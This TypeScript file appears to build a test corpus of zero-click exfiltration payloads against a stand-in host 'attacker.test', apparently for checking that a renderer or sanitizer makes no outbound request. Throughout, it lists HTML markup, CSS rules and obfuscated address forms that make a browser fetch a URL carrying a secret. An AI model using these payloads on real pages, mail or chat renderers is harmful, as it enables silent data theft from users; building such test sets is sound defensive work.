import { addressCarriers, carriers, combine, type Payload } from './payload.ts'

/** Every name below it is one that nobody may ask for, not even its address. */
export const HOSTILE = 'attacker.test'

const url = (id: string, scheme = 'http:') => `${scheme}//${id}.${HOSTILE}/q?secret=${id}`

type Attacks = Record<string, readonly ((id: string) => string)[]>

/** Markup that makes a browser fetch, connect, resolve or navigate without anybody's click. */
const markup: Attacks = {
  picture: [
    (id) => `<img src="${url(id)}">`,
    (id) => `<img src="${url(id, '')}" srcset="${url(id)} 2x" loading=eager>`,
    (id) => `<picture><source srcset="${url(id)}"><img></picture>`,
    (id) => `<input type=image src="${url(id)}">`,
    (id) => `<svg><image href="${url(id)}" width=9 height=9 /></svg>`,
    (id) => `<svg><use href="${url(id)}#x"/><filter><feImage href="${url(id)}"/></filter></svg>`,
    (id) => `<table background="${url(id)}"><td background="${url(id)}">x</table>`,
    (id) => `<body background="${url(id)}">`,
  ],
  media: [
    (id) => `<video poster="${url(id)}" src="${url(id)}" autoplay></video>`,
    (id) => `<audio src="${url(id)}" autoplay preload=auto></audio>`,
    (id) => `<track src="${url(id)}" default kind=captions>`,
  ],
  document: [
    (id) => `<iframe src="${url(id)}"></iframe>`,
    (id) => `<object data="${url(id)}"></object><embed src="${url(id)}">`,
    (id) => `<portal src="${url(id)}"></portal><fencedframe src="${url(id)}">`,
    (id) => `<meta http-equiv="refresh" content="0;url=${url(id)}">`,
    (id) => `<base href="${url(id)}">`,
    (id) => `<form action="${url(id)}"><input name=q><button autofocus>x</button></form>`,
  ],
  hint: [
    (id) => `<link rel=prefetch href="${url(id)}"><link rel=preload as=image href="${url(id)}">`,
    (id) => `<link rel="preconnect dns-prefetch" href="${url(id)}">`,
    (id) => `<link rel=icon href="${url(id)}"><link rel=manifest href="${url(id)}">`,
    (id) => `<link rel=stylesheet href="${url(id)}">`,
    (id) => `<link rel=prerender href="${url(id)}"><link rel=modulepreload href="${url(id)}">`,
    (id) => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url(id)}"]}]}</script>`,
    (id) => `<a href="/" ping="${url(id)}" attributionsrc="${url(id)}">x</a>`,
  ],
  style: [
    (id) => `<style>@import url("${url(id)}");*{background:url("${url(id)}")}</style>`,
    (id) => `<style>@font-face{font-family:x;src:url("${url(id)}")}*{font-family:x}</style>`,
    (id) => `<p style="background-image:image-set('${url(id)}' 1x);cursor:url('${url(id)}'),auto">x</p>`,
  ],
}

/** Addresses that a renderer may fetch for a picture, a preview or a favicon, or a browser may look up before a click. */
const addresses: Attacks = {
  address: [
    (id) => url(id),
    (id) => url(id, 'https:'),
    (id) => url(id, ''),
    (id) => `HTTP:/\\${id}.${HOSTILE}/q`,
    (id) => `https://user:secret@${id}.${HOSTILE}/`,
    (id) => `https://example.com@${id}.${HOSTILE}/`,
    (id) => `https://${id}。attacker。test/`,
    (id) => `https://${id}.%61ttacker.test/`,
    (id) => `https&#58;&#47;&#47;${id}.${HOSTILE}/`,
    (id) => `https://${id}.${HOSTILE}/\u{E0061}\u200B?q`,
    (id) => `ftp://${id}.${HOSTILE}/`,
    (id) => `ws://${id}.${HOSTILE}/`,
    (id) => `mailto:a@${id}.${HOSTILE}?body=secret`,
    (id) => `www.${id}.${HOSTILE}`,
    (id) => `a@${id}.${HOSTILE}`,
    (id) => `/api/../../\\${id}.${HOSTILE}/x`,
    (id) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url(id)}'/></svg>`,
    (id) => `data:text/html,<img src='${url(id)}'>`,
  ],
}

export function exfiltrationPayloads(): Payload[] {
  return [...combine('m', markup, carriers), ...combine('x', addresses, addressCarriers)]
}
